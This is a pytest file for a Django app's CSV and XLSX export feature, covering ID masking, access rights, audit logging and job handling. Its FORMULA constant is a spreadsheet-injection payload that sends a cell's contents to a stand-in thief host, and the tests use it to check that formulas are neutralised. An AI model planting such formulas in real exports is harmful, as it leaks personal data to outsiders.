"""Lists as files: what stands in them, who gets them, and that nothing in them runs."""

import csv
import datetime as dt
import io
import re
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation

from accounts.models import AccessLog
from accounts.states import ROLE_PERMISSIONS, Perm, Role
from beneficiaries.models import Beneficiary
from exports import tasks
from exports.domain import jobs as carrying
from exports.domain import listings, streams
from exports.domain.requests import TASK
from jobs.domain import queue, result_files, runs
from jobs.models import Job
from jobs.states import State
from ledger import clock
from spreadsheets import writers
from spreadsheets.heads import Head, Kind
from tests import factories as make
from tests.desk.factories import client_of, staff

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://thief.example/?q="&A1,"اضغط")'
RISKY = [f"{sign}1+1" for sign in "=+-@\t\r\n＝＋－＠"]
ODD = ["<r><t>x</t></r>", "a<b>&\"'", "_x0041_", "\x01\x1f", " x ", "ab\r\nc"]
REASON = "مراجعة الضمان الاجتماعي"


@pytest.fixture
def head() -> Any:
    return staff(Role.HEAD)


def post(user: Any, query: str = "list=people", **fields: Any) -> Any:
    data = {"format": "csv", "once": str(uuid.uuid4()), **fields}
    return client_of(user).post(f"{reverse('exports:export')}?{query}", data)


def asked(user: Any, query: str = "list=people", **fields: Any) -> Job:
    """The job that the page makes."""
    response = post(user, query, **fields)
    assert response.status_code == 302, response.content.decode()[:2000]
    return Job.objects.get(pk=response["Location"].strip("/").split("/")[-1])


def carried(job: Job) -> Job:
    tasks.export(str(job.pk))
    return Job.objects.get(pk=job.pk)


def download(user: Any, job: Job) -> Any:
    return client_of(user).get(reverse("jobs:result", args=[job.pk]))


def table(user: Any, query: str = "list=people", **fields: Any) -> list[list[Any]]:
    """The file's rows, read as a spreadsheet would."""
    job = carried(asked(user, query, **fields))
    assert (job.state, job.error) == (State.DONE, "")
    content = b"".join(download(user, job))
    if job.result_name.endswith(".csv"):
        assert content.startswith(b"\xef\xbb\xbf")
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def written(tmp_path: Path, kind: str, values: list[str], **options: Any) -> Path:
    path = tmp_path / f"list.{kind}"
    file = writers.WRITERS[kind](path, [Head("الاسم"), Head("العدد", Kind.NUMBER)], **options)
    file.write([values, list(range(len(values)))])
    file.close()
    return path


@pytest.mark.parametrize("value", [*RISKY, FORMULA])
def test_text_that_begins_a_formula_is_led_by_an_apostrophe_in_csv(tmp_path, value):
    with written(tmp_path, "csv", [value]).open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file)) == [["الاسم", "العدد"], [f"'{value}", "0"]]


@pytest.mark.parametrize(
    "value", [*RISKY, FORMULA, "<r><t>x</t></r>", "a<b>&\"'", "_x0041_", "\x01\x1f", " x ", "ab\r\nc"]
)
def test_text_stays_text_in_a_workbook_whatever_it_looks_like(tmp_path, value):
    cell = openpyxl.load_workbook(written(tmp_path, "xlsx", [value])).active["A2"]
    found = re.sub(r"_x([0-9A-F]{4})_", lambda code: chr(int(code[1], 16)), str(cell.value))
    assert (cell.data_type, cell.hyperlink, found) == ("s", None, value)


def test_a_separator_of_another_country_splits_no_cell(tmp_path):
    with written(tmp_path, "csv", ["أحمد;=1+1"]).open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file, delimiter=";"))[1][0].startswith("أحمد;=1+1")


def test_a_cell_takes_no_more_than_a_spreadsheet_does(tmp_path):
    value = openpyxl.load_workbook(written(tmp_path, "xlsx", ["ب" * 40_000])).active["A2"].value
    assert len(value) == writers.LONGEST
    assert value.endswith("…")


def test_rows_beyond_a_sheet_go_on_the_next_one_under_the_same_heading(tmp_path):
    book = openpyxl.load_workbook(written(tmp_path, "xlsx", [f"n{at}" for at in range(7)], rows_of_a_sheet=3))
    found = [[row[0].value for row in sheet.iter_rows()] for sheet in book]
    assert found == [["الاسم", "n0", "n1", "n2"], ["الاسم", "n3", "n4", "n5"], ["الاسم", "n6"]]
    assert all(sheet.sheet_view.rightToLeft and sheet.freeze_panes == "A2" and sheet["A1"].font.b for sheet in book)


def test_an_empty_list_is_a_file_with_its_heading(head):
    assert [row[0] for row in table(head)] == ["المستفيد"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_name_planted_as_a_formula_is_text_in_the_file(head, kind):
    # no page takes such a name; a table that was loaded by other means may hold it
    Beneficiary.objects.filter(pk=make.make_person().pk).update(first_name=FORMULA)
    name = table(head, format=kind)[1][0]
    assert name.startswith(f"'{FORMULA}" if kind == "csv" else FORMULA)


def test_headings_and_words_are_arabic_and_dates_stand_in_both_calendars(head):
    make.make_person(birth_date=dt.date(1990, 1, 15))
    headings, person = table(head, format="xlsx")
    assert headings[:5] == ["المستفيد", "نوع الهوية", "رقم الهوية", "الجنس", "تاريخ الميلاد"]
    at = headings.index("تاريخ الميلاد")
    assert person[at] == dt.datetime(1990, 1, 15)
    assert (headings[at + 1], person[at + 1]) == ("تاريخ الميلاد (هجري)", "18 جمادى الآخرة 1410هـ")
    assert all(headings)


def test_the_number_is_masked_without_the_right_whatever_is_sent():
    reader = staff(Role.RECEPTION)
    case = make.submitted(by=reader)
    person = case.beneficiary
    response = post(reader, "list=reception", whole="on", reason=REASON)
    job = carried(Job.objects.get(pk=response["Location"].strip("/").split("/")[-1]))
    content = b"".join(download(reader, job)).decode()
    assert case.reference in content
    assert f"••••••{person.id_tail}" in content
    assert person.id_number not in content


def test_the_head_gets_whole_numbers_with_a_reason_and_both_are_logged(head):
    person = make.make_person()
    assert table(head)[1][2] == f"••••••{person.id_tail}"
    assert table(head, whole="on", reason=REASON)[1][2] == person.id_number
    details = [row.detail for row in AccessLog.objects.filter(staff=head, what="export").order_by("id")]
    jobs = [str(job.pk) for job in Job.objects.order_by("created_at")]
    masked, whole = "people; csv; masked", f"people; csv; whole numbers; {REASON}"
    assert details == [
        f"{about}; {what}; job {job}"
        for job, about in zip(jobs, (masked, whole), strict=True)
        for what in ("asked", "written: 1 rows", "1 rows")
    ]


def test_a_line_of_the_log_has_room_for_the_longest_reason(head):
    make.make_person()
    table(head, whole="on", reason="س" * 80)
    assert post(head, whole="on", reason="س" * 81).status_code == 422
    job = Job.objects.get()
    assert all(row.detail.endswith(f"job {job.pk}") for row in AccessLog.objects.filter(what="export"))


@pytest.mark.parametrize("reason", ["", "هوية 1012345678", "هوية ١٠١ ٢٣٤ ٥٦٧٨"])
def test_whole_numbers_without_a_reason_or_with_a_number_in_it_are_refused(head, reason):
    assert post(head, whole="on", reason=reason).status_code == 422
    assert not Job.objects.exists()


def test_a_number_that_is_not_the_rows_own_is_never_written(head):
    one, other = make.make_person(), make.make_person()
    Beneficiary.objects.filter(pk=one.pk).update(id_token=other.id_token)
    job = carried(asked(head, whole="on", reason=REASON))
    assert (job.state, job.result_name) == (State.FAILED, "")
    assert list(result_files.folder(job.pk).rglob("list")) == []


def test_the_file_holds_the_rows_of_the_filter_and_no_others():
    reader = staff(Role.RECEPTION)
    draft, sent = make.draft(by=reader), make.submitted(by=reader)
    elsewhere = make.submitted(by=staff(Role.RECEPTION, "OTHER"))
    seen = lambda query: {row[3] for row in table(reader, query)[1:]}  # noqa: E731
    assert seen("list=reception") == {draft.reference, sent.reference}
    assert seen("list=reception&only=draft") == {draft.reference}
    assert seen("list=reception&only=nonsense") == {draft.reference, sent.reference}
    assert elsewhere.reference not in seen("list=reception")
    assert Job.objects.filter(title__contains=str(listings.LISTS["reception"].filters["draft"])).count() == 1


def test_a_file_is_in_the_lists_order_and_goes_on_beyond_a_batch(head, monkeypatch):
    monkeypatch.setattr(streams, "BATCH", 2)
    people = [make.make_person() for _ in range(5)]
    assert [row[0] for row in table(head)[1:]] == [person.full_name for person in people]
    assert Job.objects.get().done == Job.objects.get().total == 5


@pytest.mark.parametrize("key", listings.LISTS)
def test_every_list_is_written_in_both_formats_with_each_filter(key, tmp_path):
    made = make.submitted()
    user = make.make_staff(Role.HEAD, Role.SECRETARY, Role.DECIDER, Role.RECEPTION, branch=made.branch)
    listing = listings.LISTS[key]
    for only in ("", *listing.filters):
        columns = listing.columns(True)
        heads = [head for column in columns for head in column.heads]
        for kind, writer in writers.WRITERS.items():
            file = writer(tmp_path / kind, heads)
            for batch in carrying.batches(user, listing, only, columns):
                assert len(batch) == len(heads)
                file.write(batch)
            file.close()


@pytest.mark.parametrize("key", ["decisions", "sittings"])
def test_a_committees_lists_hold_its_own_rows(key):
    item = make.voted(make.awaiting_decision())
    secretary = make.secretary(item.sitting.committee)
    stranger = staff(Role.SECRETARY)
    assert len(table(secretary, f"list={key}")) == (1 if key == "decisions" else 2)
    assert len(table(stranger, f"list={key}")) == 1


def test_two_clicks_make_one_job(head):
    once = str(uuid.uuid4())
    first = asked(head, once=once)
    assert asked(head, once=once) == first
    assert asked(head) != first
    assert Job.objects.count() == 2


def lose_the_role(user: Any) -> None:
    user.roles = [Role.MANAGER]
    user.save()


def leave(user: Any) -> None:
    user.is_active = False
    user.save()


def lose_the_numbers(user: Any) -> None:
    # a head who is made a receptionist keeps the list and loses the numbers
    user.roles = [Role.RECEPTION, Role.HEAD]
    user.save()


@pytest.mark.parametrize("change", [lose_the_role, leave])
def test_whoever_lost_the_right_meanwhile_gets_no_file(head, change: Callable[[Any], None]):
    make.make_person()
    job = asked(head)
    change(head)
    job = carried(job)
    assert (job.state, job.error, job.result_name) == (State.FAILED, carrying.LOST, "")
    with translation.override("ar"):
        assert "لم يعد" in translation.gettext(job.error)


def test_whoever_lost_the_right_to_whole_numbers_gets_no_file(head, monkeypatch):
    job = asked(head, whole="on", reason=REASON)
    monkeypatch.setitem(ROLE_PERMISSIONS, Role.HEAD, ROLE_PERMISSIONS[Role.HEAD] - {Perm.EXPORT_IDS})
    from accounts import states as roles  # here: its cache keeps what the roles gave before

    roles._bundle.cache_clear()
    job = carried(job)
    monkeypatch.undo()
    roles._bundle.cache_clear()
    assert (job.state, job.error) == (State.FAILED, carrying.NUMBERS_LOST)


def test_a_job_that_is_cancelled_while_it_runs_leaves_no_file(head, monkeypatch):
    for _ in range(3):
        make.make_person()
    monkeypatch.setattr(streams, "BATCH", 1)
    job, real = asked(head, format="xlsx"), runs.Run.advance

    def advance(run: runs.Run, *, done: int, total: int | None = None) -> None:
        real(run, done=done, total=total)
        if done == 1:
            queue.cancel(job_id=job.pk, by=head)

    monkeypatch.setattr(runs.Run, "advance", advance)
    job = carried(job)
    assert (job.state, job.done, job.result_name) == (State.CANCELLED, 1, "")
    assert [path for path in result_files.folder(job.pk).rglob("*") if path.is_file()] == []


class Killed(BaseException):
    """As SIGKILL would, nothing after it runs."""


def test_what_a_killed_worker_began_another_writes_anew(head, monkeypatch, at):
    people = [make.make_person() for _ in range(4)]
    monkeypatch.setattr(streams, "BATCH", 1)
    job, real = asked(head), runs.Run.advance

    def advance(run: runs.Run, *, done: int, total: int | None = None) -> None:
        real(run, done=done, total=total)
        if done == 3 and run.attempt == 1:
            left = result_files.place(run.job.pk, result_files.WORK) / "left"
            left.write_text("half a file")
            raise Killed

    monkeypatch.setattr(runs.Run, "advance", advance)
    with pytest.raises(Killed):
        tasks.export(str(job.pk))
    assert Job.objects.get(pk=job.pk).state == State.RUNNING
    with at(clock.now() + 2 * runs.LEASE):
        job = carried(job)
    assert (job.state, job.attempt, job.done, job.total) == (State.DONE, 2, 4, 4)
    rows = list(csv.reader(io.StringIO(b"".join(download(head, job)).decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == [person.full_name for person in people]
    assert {path.name for path in result_files.folder(job.pk).rglob("*") if path.is_file()} == {result_files.RESULT}


def test_the_file_is_gone_after_seven_days_and_a_page_says_so(head, at):
    job = carried(asked(head))
    assert download(head, job).status_code == 200
    with at(clock.now() + dt.timedelta(days=7, minutes=1)):
        queue.purge()
        response = download(head, job)
    assert response.status_code == 410
    assert "سبعة أيام" in response.content.decode()
    assert not list(result_files.folder(job.pk).iterdir())


def test_nobody_else_can_download_it(head):
    job = carried(asked(head))
    assert download(staff(Role.HEAD), job).status_code == 404


def test_a_list_that_is_not_the_readers_is_not_there(head):
    researcher = staff(Role.RESEARCHER)
    page = client_of(researcher).get(f"{reverse('exports:export')}?list=people")
    assert page.status_code == 404
    assert post(researcher, "list=reception").status_code == 404
    assert post(head, "list=nonsense").status_code == 404
    assert post(staff(Role.MANAGER)).status_code == 403


def test_the_page_says_what_the_file_will_hold(head):
    make.make_person()
    html = client_of(head).get(f"{reverse('exports:export')}?list=people").content.decode()
    assert "المستفيدون" in html
    assert "تاريخ الميلاد (هجري)" in html
    assert 'name="whole"' in html
    reader = staff(Role.RECEPTION)
    assert 'name="whole"' not in client_of(reader).get(f"{reverse('exports:export')}?list=reception").content.decode()


PAGES = {
    **{f"{reverse('desk:home')}?queue={key}": key for key in ("reception", "researcher", "head", "committee")},
    f"{reverse('desk:home')}?queue=department": "department",
    **{reverse(one.view): one.key for one in listings.LISTS.values() if one.view != "desk:home"},
}


def test_every_list_has_its_page():
    assert sorted(PAGES.values()) == sorted(listings.LISTS)


@pytest.mark.parametrize("role", [role for role in Role if role is not Role.ADMIN])
def test_the_button_stands_where_the_right_is_and_nowhere_else(role):
    user = staff(role)
    for page, key in PAGES.items():
        # somebody else's queue is one's own at that address
        if "queue=" in page and not user.may(listings.LISTS[key].need):
            continue
        response = client_of(user).get(page)
        if response.status_code == 200:
            leads = re.findall(r"/export/\?list=([a-z-]+)", response.content.decode())
            may = user.may(Perm.EXPORT_LISTS) and user.may(listings.LISTS[key].need)
            assert leads == ([key] if may else []), page


def test_the_button_carries_the_filter(head):
    html = client_of(head).get(f"{reverse('desk:home')}?only=assign").content.decode()
    assert "/export/?list=head&amp;only=assign" in html
    html = client_of(head).get(f"{reverse('channels_log:notices')}?state=owed").content.decode()
    assert "/export/?list=notices&amp;only=owed" in html


def test_the_task_has_the_name_that_jobs_are_made_with():
    assert tasks.export.name == TASK


@pytest.mark.django_db(transaction=True)
def test_behind_a_pooler_rows_come_over_a_connection_of_their_own(settings):
    settings.DISABLE_SERVER_SIDE_CURSORS = True
    make.make_policy()
    head = staff(Role.HEAD)
    person = make.make_person()
    assert [row[0] for row in table(head)[1:]] == [person.full_name]
